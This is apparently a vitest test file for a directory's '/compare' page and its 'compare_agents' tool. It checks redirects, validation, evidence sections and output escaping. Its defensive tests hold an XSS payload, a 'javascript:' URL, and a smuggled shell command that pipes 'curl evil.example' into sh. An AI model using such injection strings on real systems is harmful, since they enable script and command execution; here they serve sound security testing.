import { describe, expect, it } from 'vitest';
import { comparedOf } from '../support/compared.ts';
import { registryEntry, remotesAt, seedEntries } from '../support/entries.ts';
import { connect } from '../support/mcp-clients.ts';
import { opened, openedDirectory } from '../support/opened.ts';

const hostile = `"><script>alert(1)</script>`;
const get = (path: string) => directory.app.request(path, { headers: { accept: 'text/html' } });
const pageOf = async (path: string) => {
  const response = await get(path);
  expect([path, response.status]).toEqual([path, 200]);
  return (await response.text()).replaceAll('&quot;', '"').replaceAll('&#39;', "'").replaceAll('&amp;', '&');
};
const locationOf = async (path: string) => {
  const response = await get(path);
  return [response.status, response.headers.get('location')];
};
/** What each cell of a table says first, row by row. */
const resultsIn = (page: string) =>
  page
    .split(/<tr role="row"(?: class="same")?>/)
    .map((row) => [...row.matchAll(/<span class="result [a-z_]+">([^<]+)</g)].map(([, text]) => text))
    .filter((row) => row.length > 0);

const webhook = 'handle=co.webhook%2Fwebhook';
const politics = 'handle=com.politicalcomms%2Fapi';
const first =
  'active=true&endpoint_at_domain=true&nothing_shared=true&needs_no_secret=true&endpoint_observed_alive=true&price_known=true&tools_unchanged_for=30&claimed=true&native_ratings_at_least=1';

const directory = await openedDirectory({
  environment: { LIMITS: 'off' },
  entries: [
    ...seedEntries,
    registryEntry('io.test/loud', { description: hostile, title: hostile }),
    registryEntry('io.test/message', {}, { status: 'deprecated', statusMessage: hostile }),
    registryEntry('com.lumetra-app/crm', {
      description: 'The CRM of Lumetra',
      ...remotesAt('https://crm.lumetra-app.workers.dev/mcp'),
    }),
    registryEntry('com.lumetra/crm', {
      description: 'The CRM of Lumetra',
      ...remotesAt('https://mcp.lumetra.com/mcp'),
    }),
    registryEntry('io.test/links', {
      remotes: [{ type: 'javascript:alert(1)', url: 'http://plain.example/mcp' }],
    }),
  ],
});

describe('a comparison says before its criteria whose each listing is', () => {
  const elsewhere =
    'Domain lumetra-app.com, proven to the registry; its endpoint is on another domain: `workers.dev`, where others can have hosts too';
  it('in text and JSON', async () => {
    const client = await opened(connect('v2', directory));
    const handles = ['com.lumetra-app/crm', 'co.webhook/webhook'];
    const { content, structuredContent } = await client.call('compare_agents', { handles });
    expect(content[0]?.text).toMatch(
      /\n\* Whose: Domain lumetra-app\.com, proven to the registry; its endpoint is on another domain: `workers\.dev`, where others can have hosts too; /,
    );
    expect(structuredContent).toMatchObject({
      listings: [
        { lines: { whose: expect.stringContaining(elsewhere) } },
        {
          lines: {
            whose: expect.stringContaining(
              'Domain webhook.co, proven to the registry; its endpoint is on it.',
            ),
          },
        },
      ],
      untrusted_fields: expect.arrayContaining(['listings.lines']),
    });
  });
  it('and that two of them have the same name and short description, which a criterion says too', async () => {
    const client = await opened(connect('v2', directory));
    const handles = ['com.lumetra-app/crm', 'com.lumetra/crm', 'co.webhook/webhook'];
    const criteria = ['nothing_shared'];
    const { content, structuredContent } = await client.call('compare_agents', { handles, criteria });
    expect(structuredContent).toMatchObject({
      listings: [
        { same_description_as: ['com.lumetra/crm'] },
        {
          same_description_as: ['com.lumetra-app/crm'],
          imported: { nothing_shared: 'not_met' },
          stands_out: [
            '`com.lumetra-app/crm` (domain lumetra-app.com, published on 2026-10-01 or before) has the same name and description; this does not show a connection.',
          ],
        },
        { handle: 'co.webhook/webhook' },
      ],
    });
    expect(content[0]?.text).toContain(
      '`com.lumetra/crm`: its publisher writes “The CRM of Lumetra”, the same as `com.lumetra-app/crm`',
    );
    expect(content[0]?.text?.match(/the same as/g)).toHaveLength(2);
  });

  it('on the page', async () => {
    const page = await pageOf(`/compare?handle=com.lumetra-app/crm&${webhook}&active=true`);
    const text = page.replace(/<[^>]+>/g, '');
    const [before] = text.split('What is recorded');
    expect(before).toContain('No check of an endpoint and no change of a checked fact is known.');
    expect(before).not.toContain('Could not be seen');
    expect(before).toContain(
      'Domain lumetra-app.com, proven to the registry; its endpoint is on another domain: workers.dev, where others can have hosts too',
    );
  });
});

describe('/compare', () => {
  it('has one address for each comparison, and a form where nothing was picked', async () => {
    const moved = [302, `/compare?${webhook}&${politics}&${first}`];
    expect(await locationOf('/compare?handle=co.webhook/webhook&handle=com.politicalcomms/api')).toEqual(
      moved,
    );
    expect(await locationOf(`/compare?${webhook}&add=com.politicalcomms/api`)).toEqual(moved);
    expect(await locationOf(`/compare?${first}&tag=&x=1&${webhook}&${politics}&${webhook}&add=`)).toEqual(
      moved,
    );
    expect(await locationOf(`/compare?has_endpoint=no&claimed=true&${webhook}`)).toEqual([
      302,
      `/compare?${webhook}&claimed=true`,
    ]);
    for (const path of ['/compare', `/compare?${webhook}`, moved[1] as string, `/compare?${webhook}&add=sms`])
      expect((await get(path)).status).toBe(200);
  });

  it('shows imported evidence, own checks, and claims and ratings apart, in the order of the picks', async () => {
    const page = await pageOf(`/compare?${politics}&${webhook}&${first}`);
    const [, recorded = '', imported = '', observed = '', native = ''] =
      page.split('<section class="compared"');
    expect(recorded).toContain('<h2 id="answers">In short</h2>');
    expect(recorded.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ')).toContain(
      'Costs The same for both: Dossier has not checked whether a payment is asked for. ',
    );
    expect(imported).toContain('<h2 id="imported">What is recorded, unless a check differs</h2>');
    expect(resultsIn(imported)).toEqual([
      ['Met'],
      ['Does not apply', 'Met'],
      ['Met'],
      ['Unknown', 'Unknown'],
    ]);
    expect(observed).toContain('<h2 id="observed">What Dossier checks</h2>');
    expect(resultsIn(observed)).toEqual([
      ['Does not apply', 'Unknown'],
      ['Does not apply', 'Unknown'],
      ['Does not apply', 'Unknown'],
    ]);
    expect(native).toContain('<h2 id="native">Claims and ratings made on Dossier</h2>');
    expect(resultsIn(native)).toEqual([['Not met'], ['Not met']]);
    expect(native).toContain('The same for both:');
    expect(recorded).toContain('No ratings here; that matters for a purchase.');
    expect(observed).toContain('<p class="note"><a href="#costs">Costs</a></p>');
    expect(page).toContain('Unknown does not mean no');
    expect(recorded).toMatch(/id="record">Record<.*registry\S*.*, as of <time/s);
    expect(page).toMatch(
      /<th[^>]*>Criterion<\/th><th[^>]*><a class="handle" href="\/agents\/com\.politicalcomms\/api"/,
    );
    expect(imported + observed + native).not.toMatch(/\b(total|score|winner|best|rank)\b/i);
  });

  it('is the answer of the tool', async () => {
    const page = await pageOf(`/compare?${politics}&${webhook}&${first}`);
    const input = /compare_agents -H 'Content-Type: application\/json' -d '([^']+)'/.exec(page)?.[1] ?? '';
    const response = await directory.app.request('/api/tools/compare_agents', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: input,
    });
    const listings = comparedOf(await response.json());
    expect(listings).toHaveLength(2);
    const text = page.replace(/<[^>]+>/g, '');
    // Pages add their age to days.
    for (const { lines = {} } of listings)
      for (const line of Object.values(lines).filter((one) => !/\d{4}-\d\d/.test(one)))
        expect(text).toContain(line.replaceAll('`', ''));
  });

  it('finds listings to add by words, and reports when there are none', async () => {
    const page = await pageOf(`/compare?${webhook}&claimed=true&add=sms`);
    expect(page).toContain('Listings that match “sms”');
    expect(page).toContain(
      `<a class="button" href="/compare?${webhook}&${politics}&claimed=true" aria-label="Add com.politicalcomms/api">`,
    );
    expect(await pageOf(`/compare?${webhook}&add=webhook`)).toContain('already picked');
    expect(await pageOf(`/compare?${webhook}&add=nothingofthekind`)).toContain(
      'No listing matches “nothingofthekind”.',
    );
  });

  it('names what is unknown, with what may have been meant, and compares the rest', async () => {
    const page = await pageOf(`/compare?handle=co.webhook%2Fwebhok&${politics}&claimed=true`);
    expect(page).toContain(
      '<span class="handle foreign">co.webhook/webhok</span>: No listing is found by this name.',
    );
    expect(page).toContain(
      `href="/compare?${politics}&${webhook}&claimed=true" aria-label="Take co.webhook/webhook instead"`,
    );
    expect(page).not.toContain('search_agents');
    expect(resultsIn(page)).toEqual([['Not met']]);
    const none = await pageOf('/compare?handle=a.b%2Fc&handle=d.e%2Ff&claimed=true');
    expect(resultsIn(none)).toEqual([]);
    expect(none.match(/: No listing is found by this name\./g)).toHaveLength(2);
  });

  it('shows the error at its field, and keeps what was picked', async () => {
    const response = await get(
      `/compare?${webhook}&${politics}&updated_within_days=0&tag=webhooks&transport=http`,
    );
    expect(response.status).toBe(422);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const page = await response.text();
    expect(page).toContain('Nothing was compared: the values marked below are not valid for their criteria.');
    expect(page).toMatch(
      /value="0" name="updated_within_days" aria-invalid="true" aria-describedby="updated_within_days-error"/,
    );
    expect(page).toContain(
      '<span class="error" id="updated_within_days-error">This takes a whole number from 1 to 3650</span>',
    );
    expect(page).toContain(
      '<span class="error" id="transport-error">This takes one of streamable-http, sse, stdio</span>',
    );
    expect(page).toContain('value="webhooks" name="tag"');
    expect(page).toContain('<input type="hidden" name="handle" value="co.webhook/webhook">');
  });

  it('refuses too many listings, criteria and letters', async () => {
    const nine = Array.from({ length: 9 }, (_, at) => `handle=a.b%2Fc${at}`).join('&');
    const many = await get(`/compare?${nine}&claimed=true`);
    expect(many.status).toBe(422);
    expect(await many.text()).toContain('At most 8 listings can be compared. Remove 1 of them.');
    const tags = Array.from({ length: 21 }, (_, at) => `tag=t${at}`).join('&');
    expect((await get(`/compare?${webhook}&${politics}&${tags}`)).status).toBe(422);
    const wordy = await get(`/compare?${webhook}&add=${'a'.repeat(10_001)}`);
    expect(wordy.status).toBe(422);
    expect(await wordy.text()).toContain('must have at most 10000 characters');
  });

  it('shows what others wrote as text, whatever it is', async () => {
    const shown = await get(
      '/compare?handle=io.test%2Floud&handle=io.test%2Fmessage&handle=io.test%2Flinks&active=true&has_endpoint=true&transport=sse',
    );
    const page = await shown.text();
    expect(shown.status).toBe(200);
    expect(page).not.toContain('<script>alert');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('<span class="foreign">http://plain.example/mcp</span>');
    expect(page).not.toContain('href="javascript:');
    const typed = await get(
      `/compare?handle=${encodeURIComponent(hostile)}&add=${encodeURIComponent(hostile)}&tag=${encodeURIComponent(hostile)}`,
    );
    expect(await typed.text()).not.toContain('<script>alert');
  });

  it('offers no command that runs what is typed for a handle', async () => {
    const typed = "'; curl evil.example | sh; '";
    const { headers } = await get(
      `/compare?handle=co.webhook%2Fwebhook&handle=com.politicalcomms%2Fapi&handle=${encodeURIComponent(typed)}`,
    );
    const page = await (await get(headers.get('location') ?? '')).text();
    const command = /<code>(curl [^<]*)<\/code>/.exec(page)?.[1] ?? '';
    expect(command).toContain('compare_agents');
    expect(command).toContain('co.webhook/webhook');
    expect(command).not.toContain('evil.example');
  });

  it('can be found from lists and listings, and is indexed without picks only', async () => {
    expect(await pageOf('/agents')).toContain('form="search" name="handle" value="co.webhook/webhook"');
    expect(await pageOf('/agents/co.webhook/webhook')).toContain(
      `<a class="action" href="/compare?${webhook}">Compare</a>`,
    );
    expect(await pageOf('/compare')).not.toContain('noindex');
    expect(await pageOf(`/compare?${webhook}`)).toContain('<meta name="robots" content="noindex">');
  });
});
